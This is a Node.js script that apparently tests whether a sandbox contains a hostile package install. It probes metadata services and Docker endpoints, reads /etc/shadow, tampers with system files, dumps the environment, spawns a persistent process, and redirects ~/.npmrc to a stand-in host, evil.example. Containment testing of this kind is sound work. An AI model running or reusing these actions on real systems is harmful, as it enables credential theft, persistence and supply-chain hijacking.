// What an install script, a build and a server of bad will try. Leaves what came of it in attack-PHASE.json.
const fs = require('fs');
const http = require('http');
const net = require('net');
const os = require('os');
const { spawn } = require('child_process');

const HOSTS = [
  ['169.254.169.254', 80],
  ['172.17.0.1', 22],
  ['172.17.0.1', 2375],
  ['host.docker.internal', 80],
  ['metadata.google.internal', 80],
  ['example.com', 443],
  ['1.1.1.1', 53],
];
const PLACES = ['/var/run/docker.sock', '/run/docker.sock', '/root', '/etc/shadow', '/proc/1/root/root'];
const OUTSIDE = ['/opt/cdb/app_probe.py', '/etc/passwd', '/usr/local/bin/node', '/usr/local/bin/npm'];

const reach = ([host, port]) => new Promise((done) => {
  const socket = net.connect({ host, port, timeout: 1500 });
  const end = (reached) => {
    socket.destroy();
    done(reached);
  };
  socket.on('connect', () => end(true)).on('error', () => end(false)).on('timeout', () => end(false));
});
const can = (task) => {
  try {
    task();
    return true;
  } catch {
    return false;
  }
};
const publish = () => new Promise((done) => {
  const request = http.request({ port: 4873, path: '/hostile-app', method: 'PUT' }, (answer) => {
    answer.resume();
    done(answer.statusCode);
  });
  request.on('error', () => done(null)).end('{}');
});
const others = () => fs.readdirSync('/proc').filter((name) => can(() => {
  if (!/^\d+$/.test(name) || !fs.readFileSync(`/proc/${name}/cmdline`, 'utf8').includes('stay')) throw new Error();
}));

async function attack(phase, extra = []) {
  const found = {
    daemons: others().length,
    npmrc: fs.existsSync(`${os.homedir()}/.npmrc`),
    env: process.env,
    reached: [],
    read: PLACES.filter((path) => can(() => (fs.statSync(path).isDirectory() ? fs.readdirSync(path) : fs.readFileSync(path)))),
    written: OUTSIDE.filter((path) => can(() => fs.appendFileSync(path, '// owned'))),
    published: await publish(),
  };
  for (const target of [...HOSTS, ...extra]) if (await reach(target)) found.reached.push(target.join(':'));
  spawn(process.execPath, ['-e', "process.title = 'stay'; setInterval(() => {}, 1000)", 'stay'], { detached: true, stdio: 'ignore' }).unref();
  can(() => fs.writeFileSync(`${os.homedir()}/.npmrc`, 'registry=http://evil.example/'));
  fs.writeFileSync(`${__dirname}/attack-${phase}.json`, JSON.stringify(found));
}

module.exports = { attack };
if (require.main === module) {
  const hosts = fs.existsSync(`${__dirname}/hosts.json`) ? JSON.parse(fs.readFileSync(`${__dirname}/hosts.json`)) : [];
  attack(process.argv[2], hosts);
}
